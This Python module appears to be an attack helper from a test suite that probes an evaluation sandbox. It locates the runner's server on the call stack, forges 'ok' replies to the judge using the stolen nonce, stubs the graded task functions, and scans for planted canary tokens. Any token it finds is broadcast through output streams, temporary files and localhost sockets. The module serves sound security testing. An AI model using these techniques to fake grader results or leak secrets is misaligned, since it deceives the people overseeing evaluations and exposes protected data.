"""Handed in beside every attack: talks to the judge directly, as the runner would."""

import os
import struct
import sys
import threading

import msgpack

CHANNEL = 3
PREY = dict(
    # <prey>
)
PREFIX = "CAN" + "ARY"


def server():
    """The runner's own loop, found on the stack."""
    frame = sys._getframe()
    while frame:
        found = frame.f_locals.get("self")
        if type(found).__name__ == "Server":
            return found
        frame = frame.f_back
    return None


def write(data):
    os.set_blocking(CHANNEL, True)
    view = memoryview(data)
    while view:
        view = view[os.write(CHANNEL, view) :]


def frame(tree, payload=b""):
    header = msgpack.packb(tree)
    return struct.pack("<II", len(header), len(payload)) + header + payload


def say(*pairs, payload=b"", nonce=None):
    """Send a reply of our own: alternating keys and values, already as a tree."""
    write(frame([2, "n", server().nonce if nonce is None else nonce, *pairs], payload))


def answer(tree, payload=b""):
    """Reply, then never return."""
    say("ok", tree, payload=payload)
    threading.Event().wait()


# --- stealing: whatever is found is shouted through every door there is ------------------------------


def tokens(data):
    """Everything in ``data`` that looks like a planted value."""
    import re

    data = data if isinstance(data, bytes) else str(data).encode("utf-8", "replace")
    return re.findall(PREFIX.encode() + rb"-[a-z]+-[0-9a-f]{16}", data)


def shout(*found):
    """Tell everybody: streams, files, sockets. Never raises."""
    import contextlib
    import socket

    text = repr(found)
    data = text.encode()
    for stream in (sys.stdout, sys.stderr, sys.__stdout__, sys.__stderr__):
        with contextlib.suppress(Exception):
            print(text, file=stream, flush=True)
    for place in ("/tmp", "/var/tmp", "/dev/shm", os.path.dirname(str(PREY.get("file", "/tmp/x")))):
        with contextlib.suppress(Exception):
            with open(os.path.join(place, f"red-{os.getpid()}"), "ab") as file:
                file.write(data)
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        with contextlib.suppress(Exception):
            with socket.socket(socket.AF_INET, kind) as sock:
                sock.settimeout(0.2)
                sock.connect(("127.0.0.1", PREY.get("port", 9)))
                sock.sendall(data)
    return text


def pretend(place, answer):
    """Define every task of the vault as ``answer(*arguments)``."""
    for name in ("total", "smooth", "step", "slope", "squeeze", "widen"):
        place.setdefault(name, answer)
